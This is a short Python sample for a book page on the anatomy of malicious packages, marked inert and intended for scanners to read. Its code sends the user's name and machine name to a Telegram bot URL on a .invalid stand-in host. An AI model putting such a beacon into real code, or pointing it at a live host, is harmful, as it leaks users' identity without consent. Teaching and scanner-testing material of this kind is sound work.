# Inert sample for the book page "Anatomy of a malicious package": harmless by construction
# (the hosts end in .invalid or are documentation addresses, the payload only prints).
# It exists to be read by scanners; never install it, never run it.
import getpass
import platform

import requests

BOT = "https://api.telegram.invalid/bot123456:INERT-sample/sendMessage"

try:
    requests.post(BOT, data={"chat_id": "1", "text": f"{getpass.getuser()}@{platform.node()}"},
                  timeout=5)
except requests.RequestException:
    pass
